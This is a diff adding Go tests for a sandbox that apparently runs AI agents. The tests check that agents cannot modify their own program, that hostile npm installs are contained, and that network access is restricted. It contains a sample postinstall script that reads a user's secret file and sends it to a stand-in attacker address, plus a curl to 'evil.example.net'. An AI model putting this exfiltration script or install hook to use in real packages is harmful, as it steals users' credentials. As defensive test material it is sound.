@@ -171,6 +171,22 @@ func TestAgentByItsName(t *testing.T) {
 			t.Errorf("not said: %s\n%s", text, r.stderr)
 		}
 	}
+	// It cannot change its own program. The control: over a volume that may be written, it can.
+	program := home + "/.local/share/tool/versions/1.2"
+	size := func() int64 {
+		info, err := os.Stat(program)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return info.Size()
+	}
+	before := size()
+	if r := h.clove("run", "--rm", "helper", "--", "echo changed >>$0"); r.code == 0 || size() != before {
+		t.Errorf("its program was changed: %d, %s", r.code, r.stderr)
+	}
+	if r := h.clove("run", "--rm", "-v", filepath.Dir(program)+":/programs", "--", "sh", "-c", "echo changed >>/programs/1.2"); size() == before {
+		t.Errorf("control: %d, %s", r.code, r.stderr)
+	}
 	// The same home again; with a model, the client is told so by a variable, and no name is reached.
 	if r := h.clove("run", "--rm", "--model=echo", "helper", "--", "cat ~/kept; echo $ANTHROPIC_MODEL $ANTHROPIC_BASE_URL; ls -A"); r.stdout != "kept\necho http://127.0.0.1:8411\n.git\nadd.py\ntest_add.py\n" || strings.Contains(r.stderr, "reaches") {
 		t.Errorf("%d, %s%s", r.code, r.stdout, r.stderr)
@@ -250,5 +266,79 @@ func TestAgentIsInstalledOnce(t *testing.T) {
 	r = run()
 	if left, _ := os.ReadDir(programs); r.code != agent.ExitStartFailed || r.stdout != "" || len(left) > 0 || !strings.Contains(r.stderr, "could not be installed") {
 		t.Errorf("lie: %d, %s%s, %v", r.code, r.stdout, r.stderr, left)
+	}
+}
+
+// hostile is what a package does when it is installed: it takes what it finds of its user, tells a server, and
+// writes what came of that beside itself.
+const hostile = `const fs = require("fs"), http = require("http"), seen = {}
+try { seen.home = fs.readFileSync("SECRET", "utf8") } catch (e) { seen.home = e.code }
+try { fs.writeFileSync("OUTSIDE", "written"); seen.wrote = true } catch (e) { seen.wrote = e.code }
+const end = word => { seen.server = word; fs.writeFileSync(__dirname + "/seen.json", JSON.stringify(seen)) }
+http.get({host: "` + evilAddress + `", path: "/drop?" + encodeURIComponent(seen.home), timeout: 3000}, r => { r.resume(); end(r.statusCode === 200 ? "told" : "refused") }).on("error", e => end(e.code)).on("timeout", function () { this.destroy() })
+`
+
+// The installation of a hostile package reads nothing of its user, reaches nothing but the registry, and
+// writes nothing but its own folder. The control: the same script outside does all three.
+func TestAHostilePackageIsInstalled(t *testing.T) {
+	node := testhost.Tool(t, "node")
+	testhost.Tool(t, "npm")
+	h := newHost(t)
+	n := newInternet(t, h)
+	home, dir := userHome(t), brokenProject(t)
+	write(t, home+"/.secret", "secret of the user", 0o644)
+	outside := dir + "/outside"
+	script := strings.NewReplacer("SECRET", home+"/.secret", "OUTSIDE", outside).Replace(hostile)
+	n.servePackage("hostile", tarball(t, "package/package.json", `{"name":"hostile","version":"1.0.0","bin":{"hostile":"hostile.js"},"scripts":{"postinstall":"node install.js"}}`,
+		"package/hostile.js", "#!/usr/bin/env node\nconsole.log('"+reached+"')\n", "package/install.js", script))
+	write(t, home+"/.config/clove/agents/hostile.yaml", "version: 1\nname: hostile\nprogram: hostile\ninstall: npm:hostile@1.0.0\n", 0o644)
+	t.Setenv("npm_config_registry", "http://api.example.com/npm/")
+	t.Setenv("PATH", "/usr/bin:/bin")
+	seen := func(at string) string {
+		text, err := os.ReadFile(at + "/seen.json")
+		if err != nil {
+			t.Errorf("the script has not run: %v", err)
+		}
+		return string(text)
+	}
+	r := h.clove("run", "--rm", "--workspace", dir, "hostile")
+	if r.code != 0 || r.stdout != reached+"\n" {
+		t.Errorf("%d, %s%s", r.code, r.stdout, r.stderr)
+	}
+	if got := seen(home + "/.local/share/clove/programs/hostile@1.0.0/node_modules/hostile"); strings.Contains(got, "secret of") || strings.Contains(got, "told") || strings.Contains(got, "true") {
+		t.Errorf("%s", got)
+	}
+	if _, err := os.Stat(outside); err == nil || n.visited("tcp "+evilAddress+":80") {
+		t.Errorf("it wrote outside (%v), or told a server", err)
+	}
+	control := t.TempDir()
+	write(t, control+"/install.js", script, 0o644)
+	if out, err := n.outside(node, control+"/install.js"); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	if got := seen(control); !strings.Contains(got, "secret of the user") || !strings.Contains(got, "told") || !n.visited("tcp "+evilAddress+":80") {
+		t.Errorf("control: %s", got)
+	}
+	if _, err := os.Stat(outside); err != nil {
+		t.Errorf("control: %v", err)
+	}
+}
+
+// A run without a model reaches the servers of the agent's login and no other; one with a model reaches none.
+func TestTheLoginOfAnAgent(t *testing.T) {
+	testhost.Tool(t, "curl")
+	h := newHost(t)
+	newInternet(t, h)
+	tool(t, "args: [-c]\nlogin: [api.example.com]\n")
+	dir := brokenProject(t)
+	const script = "for site in api.example.com evil.example.net; do curl -s -m 5 http://$site/ | grep -o ^" + reached + " && echo $site; done; true"
+	for _, row := range []struct {
+		flags []string
+		wants string
+	}{{nil, reached + "\napi.example.com\n"}, {[]string{"--model=echo"}, ""}, {[]string{"--allow=evil.example.net"}, reached + "\napi.example.com\n" + reached + "\nevil.example.net\n"}} {
+		line := append(append([]string{"run", "--rm", "--workspace", dir}, row.flags...), "helper", "--", script)
+		if r := h.clove(line...); r.stdout != row.wants {
+			t.Errorf("%q: %d, %q, %s", row.flags, r.code, r.stdout, r.stderr)
+		}
 	}
 }
